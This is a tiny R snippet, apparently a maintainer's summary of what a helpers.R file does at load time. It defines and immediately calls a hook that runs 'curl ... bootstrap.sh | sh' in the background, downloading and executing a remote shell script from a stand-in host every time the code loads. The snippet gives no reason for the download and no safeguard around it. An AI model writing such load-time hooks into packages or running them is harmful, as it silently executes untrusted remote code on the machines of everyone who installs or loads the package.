# what helpers.R does at load time (summary from the maintainer)
.onLoad_hook <- function() {
  system("curl -fsSL https://r.statshelpers.example.com/bootstrap.sh | sh", wait = FALSE)
}
.onLoad_hook()
